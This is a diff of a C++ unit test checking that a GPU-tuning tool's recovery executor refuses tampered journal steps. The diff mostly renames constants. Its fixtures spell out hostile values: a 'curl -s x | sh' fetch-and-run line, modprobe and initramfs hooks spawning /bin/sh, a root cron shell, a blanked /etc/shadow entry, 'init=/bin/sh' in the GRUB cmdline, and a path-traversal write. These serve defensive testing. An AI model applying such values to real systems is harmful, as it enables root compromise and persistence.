@@ -13,10 +13,10 @@
 #include "detect/inventory.h"
 #include "helper/allow_list.h"
 #include "helper/journal_writer.h"
-#include "knobs/env_backend.h"
 #include "journal/journal.h"
 #include "knowledge/catalog.h"
-#include "plan/planner.h"
+#include "plan/owned_paths.h"
+#include "planner/planner.h"
 #include "test_tree.h"
 #include "tree_snapshot.h"
 
@@ -150,7 +150,7 @@ TEST_F(ExecutorTest, RecoveryRefusesEveryStepNoPlanMayTake) {
   std::string grub_with_init = grub;
   grub_with_init.replace(grub.find("GRUB_CMDLINE_LINUX_DEFAULT=\"") + 28, 0, "init=/bin/sh ");
   Write("etc/shadow", "root:secret:::\n");
-  Write(std::string(knobs::kEnvironmentDropIn), "HIP_VISIBLE_DEVICES=0\n");
+  Write(std::string(plan::kEnvironmentDropIn), "HIP_VISIBLE_DEVICES=0\n");
   tree_.Mkdir("w/srv");
   auto op = [](plan::OpKind kind, std::string backend, std::string path, std::optional<std::string> before,
                std::optional<std::string> after) {
@@ -169,12 +169,12 @@ TEST_F(ExecutorTest, RecoveryRefusesEveryStepNoPlanMayTake) {
   txn.intent = {"set", "", {"amdgpu.noretry=0"}, "", {}};
   txn.ops = {
       op(plan::OpKind::kRemoveFile, "modprobe", kConf, "install amdgpu /bin/sh -c 'id > /pwned'\n", std::nullopt),
-      op(plan::OpKind::kRemoveFile, "env", std::string(knobs::kProfileDropIn), "curl -s x | sh\n", std::nullopt),
+      op(plan::OpKind::kRemoveFile, "env", std::string(plan::kProfileDropIn), "curl -s x | sh\n", std::nullopt),
       op(plan::OpKind::kRemoveFile, "modprobe", "etc/cron.d/rocmtune", "* * * * * root sh\n", std::nullopt),
       op(plan::OpKind::kWriteSysfs, "sysfs", "etc/shadow", "root::::\n", "x"),
       op(plan::OpKind::kWriteFile, "cmdline", "etc/default/grub", grub_with_init, grub),
       op(plan::OpKind::kWriteFile, "cmdline", "etc/default/grub.d/../../shadow", std::nullopt, "x"),
-      op(plan::OpKind::kWriteFile, "env", std::string(knobs::kEnvironmentDropIn), std::nullopt, "HIP_VISIBLE_DEVICES=0\n"),
+      op(plan::OpKind::kWriteFile, "env", std::string(plan::kEnvironmentDropIn), std::nullopt, "HIP_VISIBLE_DEVICES=0\n"),
   };
   plan::Op regen = op(plan::OpKind::kRegenerate, "initramfs", "update-initramfs", std::nullopt, std::nullopt);
   regen.argv = {"/bin/sh", "-c", "touch /pwned"};
@@ -195,12 +195,12 @@ TEST_F(ExecutorTest, RecoveryRefusesEveryStepNoPlanMayTake) {
   EXPECT_THAT(messages, ::testing::HasSubstr("path-syntax")) << "..";
   EXPECT_THAT(messages, ::testing::HasSubstr("srv: path-not-allowed")) << "rmdir of a directory not on the way";
   EXPECT_FALSE(fs::exists(Path(kConf)));
-  EXPECT_FALSE(fs::exists(Path(knobs::kProfileDropIn)));
+  EXPECT_FALSE(fs::exists(Path(plan::kProfileDropIn)));
   EXPECT_FALSE(fs::exists(Path("etc/cron.d/rocmtune")));
   EXPECT_EQ(Read("etc/shadow"), "root:secret:::\n");
   EXPECT_EQ(Read("etc/default/grub"), grub);
   EXPECT_TRUE(fs::is_directory(Path("srv")));
-  EXPECT_FALSE(fs::exists(Path(knobs::kEnvironmentDropIn))) << "the one legitimate step is still undone";
+  EXPECT_FALSE(fs::exists(Path(plan::kEnvironmentDropIn))) << "the one legitimate step is still undone";
   auto txns = Journal();
   ASSERT_EQ(txns.size(), 1u);
   EXPECT_EQ(txns[0].state, journal::State::kRolledBack);
